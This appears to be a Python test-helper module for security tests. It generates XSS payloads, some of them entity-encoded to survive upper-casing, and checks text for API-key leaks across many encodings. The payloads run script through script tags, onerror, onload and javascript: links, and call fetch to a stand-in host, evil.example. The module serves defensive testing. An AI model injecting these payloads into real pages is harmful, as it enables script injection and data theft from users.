"""Hostile input for the security tests, and a search for it that does not trust the code under test.

`echoes(key)` is a key in every encoding a careless vendor may echo it back in; `key_leaks` looks for
a key in text by decoding (URL, twice; JSON `\\/`; HTML entities; hex; every base64 run at every
alignment), not by re-encoding the way `agent_traffic.redact` does.
"""

from __future__ import annotations

import base64
import binascii
import html
import json
import re
import secrets
from urllib.parse import quote, quote_plus, unquote_plus


def run_marker(field: str) -> str:
    """Script that makes an element existing only if the payload ran (its text holds no `<pwned-`)."""
    return f"document.body.appendChild(document.createElement('pwned-{field}'))"


def payload(field: str) -> str:
    """Markup that runs script in three ways and fetches from outside if it runs."""
    js = run_marker(field) + ";fetch('http://evil.example/" + field + "')"
    return (f"<script>{js}</script><img src=x onerror=\"{js}\"><svg onload=\"{js}\">"
            f"<a href=\"javascript:{js}\">x</a>")


def entity_payload(field: str) -> str:
    """An `onerror` handler written as HTML entities, so upper-casing (methods) leaves it working."""
    js = run_marker(field)
    return f'<IMG SRC=X ONERROR="{"".join(f"&#{ord(c)};" for c in js)}">'


def new_key() -> str:
    """A key with the characters encodings treat specially (`/`, `+`, `=`)."""
    return "sk_live/" + secrets.token_urlsafe(18) + "+Zq=9"


def echoes(key: str) -> list[str]:
    """The key as vendors have echoed one: as is, URL-encoded (once, twice, `+` for spaces),
    JSON-escaped with `\\/`, HTML-escaped, lower- and upper-cased, hex, and in base64: alone,
    URL-safe, and inside `user:key` for users of every length modulo 3."""
    b = key.encode()
    return [key, quote(key, safe=""), quote(quote(key, safe=""), safe=""), quote_plus(key),
            json.dumps(key).replace("/", "\\/")[1:-1], html.escape(key), key.lower(), key.upper(),
            quote(key, safe="").lower(), b.hex(), base64.b64encode(b).decode(), base64.urlsafe_b64encode(b).decode(),
            *(base64.b64encode(f"{u}:{key}".encode()).decode() for u in ("a", "ab", "abc"))]


def key_leaks(text: str, key: str) -> list[str]:
    """How `key` (or its first 8 characters) shows in `text`, decoded every common way; [] if not at all."""
    found = []
    parts = [key.lower(), key[:8].lower()]
    views = {"as is": text, "html": html.unescape(text), "json": text.replace("\\/", "/")}
    once = unquote_plus(text)
    views |= {"url": once, "url twice": unquote_plus(once)}
    for how, view in views.items():
        if any(p in view.lower() for p in parts):
            found.append(how)
    if key.encode().hex() in text.lower():
        found.append("hex")
    raw = key.encode()
    for run in re.findall(r"[A-Za-z0-9+/_-]{8,}={0,2}", text):
        std = run.translate(str.maketrans("-_", "+/")).rstrip("=")
        for shift in range(4):
            piece = std[shift:]
            piece = piece[: len(piece) - len(piece) % 4]
            try:
                decoded = base64.b64decode(piece)
            except (binascii.Error, ValueError):
                continue
            if raw in decoded or raw[:8] in decoded:
                found.append(f"base64 {run[:12]}...")
                break
    return found
